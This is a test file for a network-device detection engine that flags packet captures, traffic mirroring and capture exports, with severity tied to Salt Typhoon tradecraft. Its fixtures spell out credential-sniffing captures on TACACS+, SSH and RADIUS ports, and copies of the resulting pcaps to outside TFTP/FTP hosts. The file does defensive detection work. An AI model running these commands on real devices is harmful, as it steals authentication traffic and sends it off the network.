// The built-in rules over normalised CommandEvents: each fires on its command and stays quiet on its look-alike;
// the precision list never pages; severity policy and tradecraft.
//
// Inputs: console transcripts of real devices (../shared/samples/logs/ios-epc-console-transcripts.log: burningnode
// R2, CSR1000v "csr8", Catalyst 3850), the aninchat Cat9k CFGLOG (interface Vlan666), the IOS-XR NetFlow line from
// elastic/integrations test-syslog.log, written as the normaliser outputs them (keywords expanded). Lines marked
// RECONSTRUCTION follow documented syntax (logformats.md §1.1, §1.8, §3.1) but are not device captures.
import { basename, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { Detector } from '../src/detect/detector.js';
import { loadRules } from '../src/detect/sigma/load.js';
import { EventView } from '../src/detect/sigma/view.js';
import { severityRank, type CommandEvent, type Detection } from '../src/types.js';
import { commandEvent as ev } from './helpers/command-event.js';
import { EVASION_CASES, EVASION_OPTIONS } from './helpers/evasion-cases.js';

const rules = loadRules([join(import.meta.dirname, '..', 'rules')]);
const byFile = new Map(rules.map((r) => [basename(r.file, '.yml'), r]));

function detectAll(events: CommandEvent[], collectors: string[] = ['10.20.0.0/16']): Detection[][] {
  const d = new Detector({ rules, collectors, evasion: EVASION_OPTIONS });
  return events.map((e) => d.detect(e));
}
function detectOne(e: CommandEvent, collectors?: string[]): Detection[] {
  return detectAll([e], collectors)[0]!;
}
/** The first detection of each event, in order. */
function firsts(events: CommandEvent[]): (Detection | undefined)[] {
  return detectAll(events).map((ds) => ds[0]);
}

const ERSPAN_SRC = 'monitor session 1 type erspan-source';
const XR = { device: { platform: 'iosxr' as const } };
const JUNOS = { device: { platform: 'junos' as const } };
const EOS = { device: { platform: 'eos' as const } };
const NX_ERSPAN = 'monitor session 2 type erspan-source';
const BUFCAP = (mn: string) => ({ tag: `BUFCAP-6-${mn}`, user: undefined });
const ASA = { device: { platform: 'asa' as const, hostname: 'fw01' } };
const FGT = { device: { platform: 'fortios' as const, hostname: 'FGT-EDGE' } };
const FGT_SWITCH = { ...FGT, context: ['config system switch-interface', 'edit Test'] };
const PAN = { device: { platform: 'panos' as const, hostname: 'PA-VM' } };

/** rule file → [an event that fires it, an event that must not, the events that come before each (optional)]. */
const CASES: Record<string, [CommandEvent, CommandEvent, CommandEvent[]?]> = {
  // csr8: `show monitor capture TEST parameter` prints the canonical form of what the operator typed
  iosxe_epc_capture_defined: [ev('monitor capture TEST interface GigabitEthernet1 IN'), ev('monitor capture point ip cef capture-p1 FastEthernet0/0 both')],
  iosxe_epc_capture_started: [ev('monitor capture TEST start'), ev('monitor capture point start capture-p1')],
  iosxe_epc_capture_stopped: [ev('monitor capture TEST stop'), ev('monitor capture point stop POINT')],
  iosxe_epc_capture_exported: [
    ev('monitor capture TEST export tftp://198.51.100.7/TEST.pcap'),
    ev('monitor capture buffer test-buffer export scp://10.10.10.111/capture/capture-p1'),
  ],
  iosxe_epc_capture_cleared: [ev('monitor capture TEST clear'), ev('no monitor capture TEST')],
  ios_epc_capture_point_defined: [ev('monitor capture point ip cef capture-p1 FastEthernet0/0 both'), ev('monitor capture TEST interface GigabitEthernet1 IN')],
  ios_epc_capture_point_started: [ev('monitor capture point start capture-p1'), ev('monitor capture TEST start')],
  ios_epc_capture_point_stopped: [ev('monitor capture point stop POINT'), ev('monitor capture TEST stop')],
  ios_epc_capture_buffer_defined: [
    ev('monitor capture buffer test-buffer size 128'),
    ev('monitor capture buffer test-buffer export scp://10.10.10.111/capture/capture-p1'),
  ],
  ios_epc_capture_buffer_exported: [
    ev('monitor capture buffer test-buffer export scp://10.10.10.111/capture/capture-p1'),
    ev('monitor capture buffer test-buffer size 128'),
  ],
  // a typed command cannot pose as the device's own notification
  ios_bufcap_capture_point_created: [ev('Capture Point capture-p1 created.', BUFCAP('CREATE')), ev('Capture Point capture-p1 created.')],
  ios_bufcap_capture_point_enabled: [ev('Capture Point TEST enabled.', BUFCAP('ENABLE')), ev('Capture Point TEST disabled.', BUFCAP('DISABLE'))],
  ios_bufcap_capture_point_disabled: [ev('Capture Point TEST disabled.', BUFCAP('DISABLE')), ev('Capture Point TEST enabled.', BUFCAP('ENABLE'))],
  // RECONSTRUCTION (logformats.md §3.1 syntax)
  nxos_ethanalyzer_capture: [
    ev('ethanalyzer local interface inband capture-filter "port 49" write bootflash:tac.pcap'),
    ev('ethanalyzer local read bootflash:tac.pcap'),
  ],
  nxos_shell_tcpdump: [ev('run bash sudo tcpdump -i eth1 -w /bootflash/1.pcap port 49'), ev('show running-config | include tcpdump')],
  ios_eem_applet_capture: [
    ev('action 1.0 cli command "monitor capture CAP start"', { context: ['event manager applet CAP'] }),
    ev('action 1.0 cli command "show version"', { context: ['event manager applet CAP'] }),
  ],
  mirror_session_created: [ev(ERSPAN_SRC), ev('monitor session 1 filter vlan 10')],
  span_session_source: [ev('monitor session 1 source interface GigabitEthernet1/0/1 both'), ev('monitor session 1 source remote vlan 900')],
  span_session_destination: [
    ev('monitor session 1 destination interface GigabitEthernet1/0/24 encapsulation replicate'),
    ev('monitor session 1 destination remote vlan 900'),
  ],
  rspan_destination_remote_vlan: [ev('monitor session 1 destination remote vlan 900'), ev('monitor session 1 destination interface GigabitEthernet1/0/24')],
  rspan_source_remote_vlan: [ev('monitor session 2 source remote vlan 900'), ev('monitor session 2 source vlan 900')],
  rspan_vlan_remote_span: [ev('remote-span', { context: ['vlan 900'] }), ev('remote-span', { context: ['interface GigabitEthernet1/0/1'] })],
  // RECONSTRUCTION (logformats.md §1.8) vs the real aninchat line under interface Vlan666
  erspan_destination_ip: [
    ev('ip address 198.51.100.7', { context: [ERSPAN_SRC, 'destination'] }),
    ev('ip address 192.2.21.1 255.255.255.0', { context: ['interface Vlan666'] }),
  ],
  erspan_id: [ev('erspan-id 100', { context: [ERSPAN_SRC, 'destination'] }), ev('erspan-id 100', { context: ['interface Tunnel0'] })],
  erspan_origin: [ev('origin ip address 10.0.0.1', { context: [ERSPAN_SRC, 'destination'] }), ev('origin ip address 10.0.0.1', { context: ['interface Loopback0'] })],
  mirror_session_no_shut: [ev('no shutdown', { context: [ERSPAN_SRC] }), ev('no shutdown', { context: ['interface GigabitEthernet1'] })],
  mirror_session_shutdown: [ev('shutdown', { context: ['monitor session 1'] }), ev('shutdown', { context: ['interface GigabitEthernet1'] })],
  mirror_session_removed: [ev('no monitor session 1'), ev('no monitor session 1 source interface GigabitEthernet1/0/1')],
  mirror_session_end_removed: [ev('no monitor session 1 source interface GigabitEthernet1/0/1'), ev('no monitor session 1')],
  capture_removed: [ev('no monitor capture TEST'), ev('no ip flow monitor FM input', { context: ['interface GigabitEthernet1'] })],
  mirror_recon: [ev('show monitor capture TEST parameter'), ev('show monitor event-trace all-traces')],
  pcap_copied_off_device: [ev('copy bootflash:tac.pcap ftp://198.51.100.7/tac.pcap vrf management'), ev('copy running-config tftp://10.1.1.1/r1.cfg')],
  // Firewalls: the vendors' documented syntax (test/firewalls.test.ts runs the fixture lines end to end)
  asa_capture_defined: [ev('capture cap1 interface inside match tcp any any eq 49', ASA), ev('capture cap1 stop', ASA)],
  asa_capture_removed: [ev('no capture cap1 interface outside', ASA), ev('no capture cap1 stop', ASA)],
  asa_capture_stopped: [ev('capture cap1 stop', ASA), ev('capture cap1 interface inside', ASA)],
  asa_capture_started: [ev('no capture cap1 stop', ASA), ev('no capture cap1', ASA)],
  asa_capture_cleared: [ev('clear capture cap1', ASA), ev('clear configure capture', ASA)],
  asa_capture_exported: [ev('copy /pcap capture:cap1 tftp://203.0.113.9/cap1.pcap', ASA), ev('copy running-config tftp://203.0.113.9/fw01.cfg', ASA)],
  asa_capture_listed: [ev('show capture', ASA), ev('show capture-traffic', ASA)],
  fortios_sniffer_packet: [ev("diagnose sniffer packet any 'port 49' 6 0 l", FGT), ev('diagnose debug flow filter addr 10.1.1.1', FGT)],
  fortios_debug_flow_trace: [ev('diagnose debug flow trace start 100', FGT), ev('diagnose debug flow filter addr 10.1.1.1', FGT)],
  fortios_span_enabled: [ev('set span enable; set span-dest-port port6', FGT_SWITCH), ev('set span enable', { ...FGT, context: ['config system interface', 'edit port5'] })],
  fortios_span_disabled: [ev('set span disable', FGT_SWITCH), ev('set span enable', FGT_SWITCH)],
  fortios_span_source: [ev('set span-source-port port5; set span-direction both', FGT_SWITCH), ev('set span-dest-port port6', FGT_SWITCH)],
  fortios_span_destination: [ev('set span-dest-port port6', FGT_SWITCH), ev('set span-source-port port5', FGT_SWITCH)],
  panos_packet_diag_capture_on: [ev('debug dataplane packet-diag set capture on', PAN), ev('debug dataplane packet-diag set filter on', PAN)],
  panos_packet_diag_capture_off: [ev('debug dataplane packet-diag set capture off', PAN), ev('debug dataplane packet-diag set filter off', PAN)],
  panos_packet_diag_capture_defined: [
    ev('debug dataplane packet-diag set capture stage firewall file fw.pcap', PAN),
    ev('debug dataplane packet-diag set log feature flow basic', PAN),
  ],
  panos_packet_diag_cleared: [ev('debug dataplane packet-diag clear all', PAN), ev('debug dataplane packet-diag clear log log', PAN)],
  panos_packet_diag_listed: [ev('debug dataplane packet-diag show setting', PAN), ev('show counter global filter packet-filter yes delta yes', PAN)],
  panos_pcap_exported: [ev('scp export filter-pcap from rx.pcap to admin@198.51.100.7:/tmp', PAN), ev('scp export configuration from running-config.xml to admin@198.51.100.7:/tmp', PAN)],
  // fires only on a file the state knows captured packets went to (the third element writes it)
  captured_file_copied: [ev('copy flash:sysdiag.bin tftp:'), ev('copy flash:other.bin tftp:'), [ev('monitor capture CAP file location flash:sysdiag.bin')]],
  // RECONSTRUCTIONS following the IP Traffic Export guide's syntax (INE "The RITE Stuff" example)
  ios_rite_profile: [ev('ip traffic-export profile R5'), ev('ip flow-export destination 192.168.9.101 9996')],
  ios_rite_profile_interface: [ev('interface FastEthernet0/0', { context: ['ip traffic-export profile R5'] }), ev('interface FastEthernet0/0')],
  ios_rite_apply: [ev('ip traffic-export apply R5', { context: ['interface Serial0/0'] }), ev('ip traffic-export profile R5')],
  ios_rite_activated: [
    ev('Activated IP traffic export on interface Serial0/0.', { tag: 'RITE-5-ACTIVATE', user: undefined }),
    ev('Activated IP traffic export on interface Serial0/0.'),
  ],
  ios_rite_removed: [ev('no ip traffic-export apply R5', { context: ['interface Serial0/0'] }), ev('ip traffic-export apply R5', { context: ['interface Serial0/0'] })],
  iosxe_packet_trace_copy: [ev('debug platform packet-trace copy packet both size 2048'), ev('debug platform packet-trace packets 2048 fia-trace circular')],
  ios_debug_ip_packet_dump: [ev('debug ip packet 101 dump'), ev('debug ip packet 101')],
  capture_buffer_printed: [ev('show monitor capture CAP buffer dump'), ev('show monitor capture CAP buffer brief')],
  // Routers and switches beyond IOS: commands from the fixtures test/routers.test.ts replays (sources named there)
  iosxr_monitor_session_created: [ev('monitor-session 1 ethernet', XR), ev('monitor-session 1 ethernet', { ...XR, context: ['interface TenGigE0/0/0/0'] })],
  iosxr_monitor_session_destination: [
    ev('destination interface tunnel-ip1', { ...XR, context: ['monitor-session 1 ethernet'] }),
    ev('destination interface tunnel-ip1', { ...XR, context: ['interface TenGigE0/0/0/0'] }),
  ],
  iosxr_monitor_session_attached: [
    ev('monitor-session 1 ethernet direction rx-only port-level', { ...XR, context: ['interface TenGigE0/0/0/0'] }),
    ev('monitor-session 1 ethernet direction rx-only port-level', XR),
  ],
  iosxr_monitor_session_removed: [ev('no monitor-session 1', XR), ev('no monitor-session 1', { ...XR, context: ['interface TenGigE0/0/0/0'] })],
  // a commit or discard is a detection only when a candidate mirror change waits
  candidate_committed: [ev('commit', JUNOS), ev('commit check', JUNOS), [ev('set forwarding-options analyzer A0 output interface et-0/0/25.0', JUNOS)]],
  candidate_discarded: [ev('rollback 0', JUNOS), ev('rollback-config', JUNOS), [ev('set forwarding-options analyzer A0 output interface et-0/0/25.0', JUNOS)]],
  junos_port_mirroring_output: [
    ev('set forwarding-options port-mirroring instance pm1 family inet output interface ge-0/0/3.0 next-hop 192.0.2.5', JUNOS),
    ev('set forwarding-options sampling instance FLOW family inet output flow-server 10.1.100.10 port 9996', JUNOS),
  ],
  junos_analyzer_input: [
    ev('set forwarding-options analyzer DELTA_SPAN input ingress interface ge-0/0/0.0', JUNOS),
    ev('set forwarding-options analyzer DELTA_SPAN output interface ge-0/0/23.0', JUNOS),
  ],
  junos_analyzer_output: [
    ev('set forwarding-options analyzer DELTA_SPAN output interface ge-0/0/23.0', JUNOS),
    ev('set forwarding-options analyzer DELTA_SPAN input ingress interface ge-0/0/0.0', JUNOS),
  ],
  junos_port_mirror_filter: [ev('set firewall family inet filter MIRROR term t then port-mirror', JUNOS), ev('set firewall family inet filter MIRROR term t then accept', JUNOS)],
  junos_mirror_removed: [ev('delete forwarding-options analyzer DELTA_SPAN', JUNOS), ev('delete forwarding-options sampling', JUNOS)],
  junos_monitor_traffic: [ev('monitor traffic interface ge-0/0/0 write-file /var/tmp/capture.pcap', JUNOS), ev('monitor interface ge-0/0/0', JUNOS)],
  eos_monitor_session_source: [ev('monitor session ERSPAN source Ethernet1 rx', EOS), ev('monitor session 1 source interface GigabitEthernet1/0/1 both', EOS)],
  eos_monitor_session_destination: [ev('monitor session S1 destination Cpu', EOS), ev('monitor session 1 destination remote vlan 900', EOS)],
  eos_monitor_session_gre: [
    ev('monitor session ERSPAN destination tunnel mode gre source 10.1.1.1 destination 10.2.2.2', EOS),
    ev('monitor session S1 destination Cpu', EOS),
  ],
  eos_monitor_session_removed: [ev('no monitor session ERSPAN', EOS), ev('no monitor session 1', EOS)],
  ...EVASION_CASES,
};

describe('every built-in rule', () => {
  it('loads, with Sigma metadata and a test case', () => {
    // Cloud rules (rules/cloud_*.yml) read audit records, not device commands: test/cloud-detect.test.ts covers them.
    const deviceRules = rules.filter((r) => !basename(r.file).startsWith('cloud_'));
    expect(deviceRules.length).toBe(Object.keys(CASES).length);
    for (const r of deviceRules) {
      expect(Object.keys(CASES), r.file).toContain(basename(r.file, '.yml'));
      expect(r.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(r.references.length, r.file).toBeGreaterThan(0);
      expect(r.falsepositives.length, r.file).toBeGreaterThan(0);
      expect(['cisco', 'juniper', 'arista', 'fortinet', 'paloaltonetworks']).toContain(r.logsource.product);
      // Every rule pins the start of the command, so ordinary config lines skip rule evaluation altogether.
      expect(r.commandPrefixes, r.file).not.toBeNull();
    }
  });

  const show = (e: CommandEvent) => `"${e.command}"${e.context.length ? ` in ${e.context.join(' / ')}` : ''}${e.tag ? ` (${e.tag})` : ''}`;
  for (const [file, [fires, quiet, before = []]] of Object.entries(CASES)) {
    it(`${file}: fires on ${show(fires)}, not on ${show(quiet)}`, () => {
      const id = byFile.get(file)!.id;
      expect(detectAll([...before, fires]).at(-1)!.map((d) => d.rule)).toContain(id);
      expect(detectAll([...before, quiet]).at(-1)!.map((d) => d.rule)).not.toContain(id);
    });
  }
});

describe('facts', () => {
  it('IOS-XE capture parameters (Catalyst 3850 transcript, expanded)', () => {
    const [def, file] = firsts([
      ev('monitor capture tftp match ipv4 host 10.9.0.32 any'),
      ev('monitor capture tftp file location flash:tftp.pcap'),
    ]);
    expect(def!.facts).toMatchObject({ capture: 'tftp', filter: 'match ipv4 host 10.9.0.32 any' });
    expect(file!.facts).toMatchObject({ capture: 'tftp', file: 'flash:tftp.pcap' });
  });

  it('the file location is found after the other file options, and a command of 10,000 `file`s is judged quickly (fuzz)', () => {
    const facts = (c: string) => detectOne(ev(c))[0]!.facts;
    expect(facts('monitor capture C file buffer-size 10 ring 2 location flash:a.pcap').file).toBe('flash:a.pcap');
    expect(facts('monitor capture C interface Gi1 both file size 5 location flash:b.pcap').file).toBe('flash:b.pcap');
    const t0 = performance.now();
    expect(facts(`monitor capture C ${'file '.repeat(10_000)}x`).capture).toBe('C');
    expect(performance.now() - t0).toBeLessThan(200);
  });

  it('start carries what the state knows about the capture', () => {
    const out = detectAll([ev('monitor capture TEST interface GigabitEthernet1 IN'), ev('monitor capture TEST start')]);
    expect(out[0]![0]!.facts).toEqual({ capture: 'TEST', interfaces: 'GigabitEthernet1', direction: 'in' });
    expect(out[1]![0]!.facts).toMatchObject({ capture: 'TEST', interfaces: 'GigabitEthernet1', direction: 'in' });
    expect(out[1]![0]!.why).toBe('Packet capture TEST started on edge-rtr1: the device is now recording traffic on GigabitEthernet1.');
  });

  it('SPAN one-liners and NX-OS submode lines', () => {
    const [one] = firsts([ev('monitor session 1 source interface GigabitEthernet1/0/1 , GigabitEthernet1/0/2 - 4 rx')]);
    expect(one!.facts).toEqual({ session: '1', interfaces: 'GigabitEthernet1/0/1, GigabitEthernet1/0/2 - 4', direction: 'rx' });
    const [sub] = firsts([ev('source interface Ethernet1/1 both', { context: ['monitor session 3'], device: { platform: 'nxos' } })]);
    expect(sub!.facts).toEqual({ session: '3', interfaces: 'Ethernet1/1', direction: 'both' });
  });

  it('ethanalyzer, tcpdump from a sudo record, EEM', () => {
    expect(detectOne(ev('ethanalyzer local interface inband capture-filter "port 49" write bootflash:tac.pcap'))[0]!.facts).toEqual({
      interfaces: 'inband',
      filter: '"port 49"',
      file: 'bootflash:tac.pcap',
    });
    const sudo = detectOne(ev('/usr/sbin/tcpdump -i eth1 -w /bootflash/cap.pcap', { tag: 'AUTHPRIV-5-SYSTEM_MSG', device: { platform: 'nxos' } }));
    expect(sudo.map((d) => [d.kind, d.facts.interfaces, d.facts.file])).toEqual([['capture', 'eth1', '/bootflash/cap.pcap']]);
    const eem = detectOne(ev('action 2.0 cli command "mon cap CAP start"', { context: ['event manager applet NIGHTLY'] }));
    expect(eem[0]!.facts.eemCommand).toBe('mon cap CAP start');
  });
});

describe('precision: everyday commands never page', () => {
  const view = new EventView();
  const PRECISION: CommandEvent[] = [
    ev('terminal monitor'),
    ev('terminal no monitor'),
    ev('logging monitor informational'),
    ev('ip flow monitor FM input', { context: ['interface GigabitEthernet1'] }),
    ev('flow monitor FM'),
    ev('ip sla monitor 5'),
    ev('monitor event-trace cef ipv4 enable'),
    ev('show monitor event-trace cef ipv4 all'),
    ev('set spantree portfast 3/1 enable'),
    ev('set spantree uplinkfast enable'),
    // elastic/integrations test-syslog.log (IOS-XR NetFlow)
    ev('Cache size of 10000 for monitor FM has been exceeded', { tag: 'MGBL-NETFLOW-6-INFO_CACHE_SIZE_EXCEEDED', user: undefined }),
    ev('description SPAN to monitor session 1 capture', { context: ['interface GigabitEthernet1/0/24'] }),
    ev('description monitor capture tap for TAC', { context: ['interface GigabitEthernet1/0/23'] }),
    // aninchat Cat9k: an interface address, not an ERSPAN destination
    ev('ip address 192.2.21.1 255.255.255.0', { context: ['interface Vlan666'] }),
    ev('ip address 10.1.1.1 255.255.255.0', { context: ['interface Vlan666'] }),
  ];

  for (const e of PRECISION) {
    it(`"${e.command}"${e.context.length ? ` under ${e.context.join(' / ')}` : ''}`, () => {
      for (const r of rules) {
        if (r.test(view.reset(e))) expect(severityRank(r.level), `${r.file} matched`).toBeLessThanOrEqual(severityRank('low'));
      }
      for (const d of detectOne(e)) {
        expect(severityRank(d.severity), d.rule).toBeLessThanOrEqual(severityRank('low'));
        expect(d.kind).not.toBe('erspan');
      }
    });
  }

  it('ordinary config lines produce nothing', () => {
    for (const c of ['interface GigabitEthernet0/1', 'vrf forwarding Guest_VN', 'ip helper-address 192.2.201.224', 'no ip redirects', 'shutdown']) {
      expect(detectOne(ev(c, { context: c === 'interface GigabitEthernet0/1' ? [] : ['interface Vlan666'] }))).toEqual([]);
    }
  });
});

describe('severity policy', () => {
  it('an export to a remote URL is critical with the URL in facts; to flash it is not', () => {
    const [tftp] = detectOne(ev('monitor capture TEST export tftp://198.51.100.7/TEST.pcap'));
    expect(tftp!.severity).toBe('critical');
    expect(tftp!.facts.url).toBe('tftp://198.51.100.7/TEST.pcap');
    expect(tftp!.tradecraft).toContain('capture exported over cleartext TFTP/FTP');
    const [scp] = detectOne(ev('monitor capture buffer test-buffer export scp://10.10.10.111/capture/capture-p1'));
    expect([scp!.severity, scp!.kind, scp!.tradecraft]).toEqual(['critical', 'capture-export', []]);
    const [flash] = detectOne(ev('monitor capture TEST export flash:TEST.pcap'));
    expect(flash!.severity).not.toBe('critical');
    expect(flash!.why).toBe('Captured packets of TEST were written to flash:TEST.pcap on edge-rtr1, ready to be copied off.');
  });

  it('an ERSPAN destination outside the collector networks is critical, inside is high', () => {
    const outside = detectOne(ev('destination ip 198.51.100.7', { context: [NX_ERSPAN] }), ['10.20.0.0/16', '2001:db8::/32']);
    expect(outside.map((d) => [d.kind, d.severity, d.facts.destinationIp])).toEqual([['erspan', 'critical', '198.51.100.7']]);
    expect(outside[0]!.why).toContain('outside the approved collector networks');
    const inside = detectOne(ev('destination ip 10.20.3.4', { context: [NX_ERSPAN] }), ['10.20.0.0/16']);
    expect(inside.map((d) => d.severity)).toEqual(['high']);
  });

  it('capture start is at least high', () => {
    expect(detectOne(ev('monitor capture TEST start'))[0]!.severity).toBe('high');
    expect(detectOne(ev('Capture Point TEST enabled.', BUFCAP('ENABLE')))[0]!.severity).toBe('high');
  });

  it('a mirror session gets to high once it has both ends', () => {
    const [src, dst] = firsts([
      ev('monitor session 1 source interface GigabitEthernet1/0/1 both'),
      ev('monitor session 1 destination interface GigabitEthernet1/0/24'),
    ]);
    expect(src!.severity).toBe('medium');
    expect(dst!.severity).toBe('high');
    expect(dst!.why).toBe('Mirror session 1 on edge-rtr1 now copies traffic out of GigabitEthernet1/0/24; the session is now copying traffic.');
  });
});

describe('tradecraft (CISA AA25-239A / Salt Typhoon)', () => {
  it('a capture filter on TACACS+ raises the define and the later start', () => {
    const [def, start] = firsts([ev('monitor capture CAP match ipv4 any any eq 49'), ev('monitor capture CAP start')]);
    expect(def!.tradecraft).toEqual(['capture targets TACACS+ (TCP 49)']);
    expect(def!.severity).toBe('high');
    expect(start!.tradecraft).toEqual(['capture targets TACACS+ (TCP 49)']);
    expect(start!.severity).toBe('critical');
  });

  it('SSH, RADIUS, SNMP, BGP and ACL names', () => {
    const t = (c: string) => detectOne(ev(c))[0]!.tradecraft;
    expect(t('monitor capture CAP match ipv4 protocol tcp any any eq 22')).toEqual(['capture targets SSH (TCP 22)']);
    expect(t('monitor capture CAP match ipv4 any any eq 1812')).toEqual(['capture targets RADIUS (1812/1813)']);
    expect(t('monitor capture CAP match ipv4 any any eq 161')).toEqual(['capture targets SNMP (161/162)']);
    expect(t('monitor capture CAP match ipv4 any any eq 179')).toEqual(['capture targets BGP (TCP 179)']);
    expect(t('monitor capture CAP access-list TACACS-ONLY')).toEqual(['capture targets TACACS+ (TCP 49)']);
    expect(t('monitor capture CAP match ipv4 any any eq 4900')).toEqual([]);
    expect(t('monitor capture CAP match any')).toEqual([]);
  });

  it('Salt Typhoon file names and a foreground capture filter', () => {
    const [eth] = detectOne(ev('ethanalyzer local interface inband capture-filter "port 49" write bootflash:tac.pcap'));
    expect(eth!.tradecraft).toEqual(['capture targets TACACS+ (TCP 49)', 'capture file name used by Salt Typhoon (tac.pcap)']);
    expect(eth!.severity).toBe('critical');
    const [file] = detectOne(ev('monitor capture CAP file location flash:mycap.pcap'));
    expect(file!.tradecraft).toEqual(['capture file name used by Salt Typhoon (mycap.pcap)']);
    expect(file!.severity).toBe('high');
    const [copy] = detectOne(ev('copy bootflash:1.pcap ftp://198.51.100.7/1.pcap vrf management'));
    expect(copy!.severity).toBe('critical');
    expect(copy!.tradecraft).toEqual(['capture file name used by Salt Typhoon (1.pcap)', 'capture exported over cleartext TFTP/FTP']);
    expect(detectOne(ev('monitor capture CAP file location flash:cap2024.pcap'))[0]!.tradecraft).toEqual([]);
  });

  it('removal and reconnaissance stay low', () => {
    const out = detectAll([ev('monitor capture tac match ipv4 any any eq 49'), ev('no monitor capture tac'), ev('show monitor capture')]);
    expect(out.slice(1).flat().map((d) => [d.kind, d.severity, d.tradecraft])).toEqual([
      ['removal', 'low', []],
      ['recon', 'low', []],
    ]);
  });
});

describe('ERSPAN built in a submode (RECONSTRUCTION, logformats.md §1.8) vs an interface address', () => {
  it('follows the session through its submode lines', () => {
    const s = ERSPAN_SRC;
    const out = detectAll([
      ev(s),
      ev('source interface GigabitEthernet0/0/1 both', { context: [s] }),
      ev('no shutdown', { context: [s] }),
      ev('destination', { context: [s] }),
      ev('erspan-id 100', { context: [s, 'destination'] }),
      ev('ip address 198.51.100.7', { context: [s, 'destination'] }),
      ev('origin ip address 10.0.0.1', { context: [s, 'destination'] }),
      ev('interface Vlan666'),
      ev('ip address 192.2.21.1 255.255.255.0', { context: ['interface Vlan666'] }),
    ]);
    const summary = out.map((ds) => ds.map((d) => `${d.kind}/${d.severity}`).join(','));
    expect(summary).toEqual([
      'erspan/medium',
      'erspan/medium',
      'erspan/medium',
      '',
      'erspan/medium',
      'erspan/critical',
      'erspan/critical',
      '',
      '',
    ]);
    expect(out[5]![0]!.facts).toEqual({ session: '1', sessionType: 'erspan-source', destinationIp: '198.51.100.7', erspanId: '100' });
    expect(out[5]![0]!.why).toBe(
      'Mirror session 1 on edge-rtr1 now sends copied traffic over IP to 198.51.100.7, outside the approved collector networks; the session is now copying traffic.',
    );
    // the later origin line is critical because the session's destination is outside the collectors
    expect(out[6]![0]!.facts.destinationIp).toBe('198.51.100.7');
  });
});
